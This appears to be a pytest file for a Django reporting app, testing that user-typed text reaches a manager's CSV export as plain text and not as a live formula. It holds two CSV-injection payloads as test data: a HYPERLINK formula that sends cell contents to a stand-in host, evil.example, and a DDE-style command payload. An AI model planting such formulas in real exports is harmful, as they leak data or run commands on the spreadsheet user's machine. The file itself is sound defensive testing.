"""Text a person typed never reaches a manager's spreadsheet as a live formula."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from directory import services as directory_services
from tests import factories

pytestmark = pytest.mark.django_db

WEEK = {"period": "week", "date": "2025-06-04"}
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(b"".join(response).decode() if response.streaming else response.content.decode())))


def test_an_unmet_need_typed_as_a_formula_reaches_the_managers_csv_as_text(client, manager, call_handler):
    directory_services.signposting_record(
        service=None, need=FORMULA, unmet_need=True, actor=call_handler, at=datetime(2025, 6, 3, 9, tzinfo=UTC)
    )
    client.force_login(manager)

    rows = csv_rows(client.get(reverse("reporting:figure_csv", args=["unmet-needs"]), WEEK))

    assert rows == [["Need", "Times unmet"], ["'" + FORMULA, "1"]]


def test_a_directory_service_named_as_a_formula_reaches_the_managers_csv_as_text(client, manager, call_handler):
    service = factories.directory_service(name="@SUM(1+1)*cmd|' /C calc'!A0")
    directory_services.signposting_record(
        service=service, need="Loneliness", unmet_need=False, actor=call_handler, at=datetime(2025, 6, 3, 9, tzinfo=UTC)
    )
    client.force_login(manager)

    rows = csv_rows(client.get(reverse("reporting:figure_csv", args=["signposting-by-service"]), WEEK))

    assert rows[1] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "1"]
